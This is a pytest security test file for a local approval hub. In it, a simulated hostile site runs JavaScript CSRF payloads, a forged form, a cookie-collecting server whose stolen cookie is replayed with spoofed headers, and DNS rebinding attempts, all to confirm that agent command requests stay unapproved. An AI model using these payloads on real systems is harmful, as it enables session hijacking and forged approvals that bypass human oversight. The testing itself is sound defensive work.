"""Pages of other sites, in a browser that is signed in to the hub: they answer nothing, and learn nothing."""

from __future__ import annotations

import http.server
import json
import threading
from typing import TYPE_CHECKING, Any

import httpx
import pytest

from hub.browser.running import Agent, Hub, signed_in

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser, Page

# What a page can try that knows everything but the mark on our own pages. Each says what came of it.
ATTACKS = """
async ({ hub, request, hash }) => {
  const answer = hub + "/requests/" + request + "/answer", api = hub + "/api/v1/requests/" + request + "/answer";
  const form = "approved=yes&scope=session&hash=" + hash;
  const given = JSON.stringify({ approved: true, hash });
  const post = (to, body, type, more) => fetch(to, {
    method: "POST", credentials: "include", body, headers: type ? { "Content-Type": type } : {}, ...more,
  }).then((reply) => reply.type === "opaque" ? "hidden" : "read", () => "refused");
  const said = {};
  said.form = await post(answer, form, "application/x-www-form-urlencoded", { mode: "no-cors" });
  said.text = await post(api, given, "text/plain", { mode: "no-cors" });
  said.json = await post(api, given, "application/json");
  said.mark = await fetch(api, {
    method: "POST", credentials: "include", body: given,
    headers: { "Tenterhook-Key": "x", "Content-Type": "application/json" },
  }).then(() => "read", () => "refused");
  said.inbox = await fetch(hub + "/api/v1/inbox", { credentials: "include" }).then(() => "read", () => "refused");
  said.page = await fetch(hub + "/", { credentials: "include" }).then(() => "read", () => "refused");
  said.key = await fetch(hub + "/", {
    credentials: "include", headers: { "Tenterhook-Key": "x" },
  }).then(() => "read", () => "refused");
  said.stream = await new Promise((done) => {
    const source = new EventSource(hub + "/api/v1/stream", { withCredentials: true });
    source.onopen = () => done("read");
    source.onerror = () => { source.close(); done("refused"); };
  });
  said.script = await new Promise((done) => {
    const script = Object.assign(document.createElement("script"), { src: hub + "/api/v1/inbox" });
    script.onload = () => done("read");
    script.onerror = () => done("refused");
    document.body.append(script);
  });
  said.frame = await new Promise((done) => {
    const frame = Object.assign(document.createElement("iframe"), { src: hub + "/requests/" + request });
    frame.onload = () => { try { done(frame.contentDocument ? "read" : "hidden"); } catch { done("hidden"); } };
    document.body.append(frame);
  });
  return said;
}
"""
# What a server can try with a cookie that a browser has sent to it: as a program, with any headers it likes.
REPLAYED = ("/", "/requests/{request}", "/fragments/requests/{request}", "/sessions", "/hooks", "/rules", "/people")
READ = ("/me", "/inbox", "/inbox?state=answered", "/requests/{request}", "/sessions", "/hooks", "/rules", "/stream")
# A form that a person is made to send, which leaves the page.
FORM = """
({ hub, request, hash }) => {
  const form = Object.assign(document.createElement("form"), {
    method: "post", action: hub + "/requests/" + request + "/answer",
  });
  for (const [name, value] of Object.entries({ approved: "yes", scope: "once", hash }))
    form.append(Object.assign(document.createElement("input"), { name, value }));
  document.body.append(form);
  form.submit();
}
"""


stolen: list[str] = []  # the cookies that the other site got


class _Elsewhere(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        stolen.append(self.headers.get("Cookie", ""))
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<!doctype html><title>Elsewhere</title><body>")

    def log_message(self, *_: Any) -> None:
        pass


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[int]:
    """The port of another site on this machine."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Elsewhere)
    thread = threading.Thread(target=server.serve_forever, args=(0.05,))
    thread.start()
    yield server.server_address[1]
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture
def signed_in_page(hub: Hub, browser: Browser) -> Iterator[Page]:
    """A page in a browser that is signed in; what another site makes it complain about is that site's trouble."""
    context = browser.new_context()
    context.set_default_timeout(20_000)
    yield signed_in(hub, context)
    context.close()


@pytest.fixture
def known(hub: Hub, agent: Agent) -> dict[str, str]:
    """A request that waits, and all that an attacker could know of it."""
    request = agent.shell("make deploy")
    digest = hub.program(hub.said["person"]).get(f"/requests/{request}").json()["hash"]
    return {"hub": hub.url, "request": request, "hash": digest}


def stands(hub: Hub, known: dict[str, str]) -> tuple[str, list[str]]:
    found = hub.program(hub.said["person"]).get(f"/requests/{known['request']}").json()
    return found["state"], [each["became"] for each in found["answers"]]


# The first is of our own site, so that a strict cookie comes along; only the origin tells it apart.
@pytest.mark.parametrize("name", ["127.0.0.1", "evil.localhost"])
def test_another_sites_page_answers_nothing_and_learns_nothing(
    hub: Hub, signed_in_page: Page, known: dict[str, str], elsewhere: int, name: str
) -> None:
    signed_in_page.goto(f"http://{name}:{elsewhere}/")
    sent: list[str] = []
    signed_in_page.on("request", lambda request: sent.append(f"{request.method} {request.url}"))
    said: dict[str, str] = signed_in_page.evaluate(ATTACKS, known)
    assert "read" not in said.values(), json.dumps(said)
    assert stands(hub, known) == ("open", [])
    assert f"POST {hub.url}/requests/{known['request']}/answer" in sent
    assert f"POST {hub.url}/api/v1/requests/{known['request']}/answer" in sent


@pytest.mark.promise("another account")
def test_the_cookie_that_another_server_on_this_host_gets_is_of_no_use_to_it(
    hub: Hub, signed_in_page: Page, known: dict[str, str], elsewhere: int
) -> None:
    """The hub's cookie gets another server on the same host, which browsers send it to, no page, stream or answer.

    A browser sends a cookie to every port of its host. What is there replays it, with all it can guess.
    """
    stolen.clear()
    signed_in_page.goto(f"http://127.0.0.1:{elsewhere}/")
    assert stolen[0].startswith("tenterhook="), stolen  # it was sent there
    assert signed_in_page.evaluate("Object.keys(localStorage)") == []  # the key was not
    guesses: list[dict[str, str]] = [{}, *({"Tenterhook-Key": key} for key in ("none", "x" * 43, known["hash"]))]
    for guess in guesses:
        headers = {"Cookie": stolen[0], "Origin": hub.url, "Sec-Fetch-Site": "same-origin", "X-Fragment": "1", **guess}
        with httpx.Client(base_url=hub.url, headers=headers, timeout=30) as thief:
            for path in REPLAYED:
                shown = thief.get(path.format(**known))
                assert shown.status_code == (401 if guess else 200), path
                for secret in ("make deploy", known["hash"], "build-1", "Sign out"):
                    assert secret not in shown.text, path
            for path in READ:
                assert thief.get("/api/v1" + path.format(**known)).status_code == 401, path
            answer = f"/requests/{known['request']}/answer"
            given = {"approved": True, "hash": known["hash"]}
            assert thief.post("/api/v1" + answer, json=given).status_code == 401
            assert thief.post(answer, data={"approved": "yes", "hash": known["hash"]}).status_code == 401
            token = {"name": "mine", "kind": "person", "person": hub.said["person"]}
            assert thief.post("/api/v1/tokens", json=token).status_code == 401
            assert thief.post("/tokens", data={"name": "mine", "kind": "person"}).status_code == 401
            assert thief.post("/api/v1/sign-out").status_code == 401
    assert stands(hub, known) == ("open", [])
    signed_in_page.goto(f"{hub.url}/requests/{known['request']}")  # the person is still signed in
    signed_in_page.get_by_role("button", name="Approve once").click()
    signed_in_page.locator(".card.approved").wait_for()
    assert stands(hub, known) == ("approved", ["won"])


@pytest.mark.parametrize("name", ["127.0.0.1", "evil.localhost"])
def test_a_form_on_another_site_answers_nothing(
    hub: Hub, signed_in_page: Page, known: dict[str, str], elsewhere: int, name: str
) -> None:
    signed_in_page.goto(f"http://{name}:{elsewhere}/")
    with signed_in_page.expect_response(lambda reply: reply.url.endswith("/answer")) as sent:
        signed_in_page.evaluate(FORM, known)
    assert sent.value.status == 401  # a form cannot carry the key
    signed_in_page.wait_for_load_state()
    assert stands(hub, known) == ("open", [])


def test_a_name_that_was_made_to_lead_here_gets_nothing(hub: Hub, signed_in_page: Page, known: dict[str, str]) -> None:
    """DNS rebinding: the browser takes the hub for a part of another site."""
    port = hub.url.rpartition(":")[2]
    for path in ("/", f"/requests/{known['request']}", "/api/v1/inbox"):
        reply = signed_in_page.goto(f"http://evil.localhost:{port}{path}")
        assert reply is not None
        assert reply.status == 421
        assert "make deploy" not in signed_in_page.content()
    posted = signed_in_page.evaluate(
        "({ request, hash }) => fetch('/api/v1/requests/' + request + '/answer',"
        " { method: 'POST', body: JSON.stringify({ approved: true, hash }) }).then((reply) => reply.status)",
        known,
    )
    assert posted == 421
    assert stands(hub, known) == ("open", [])
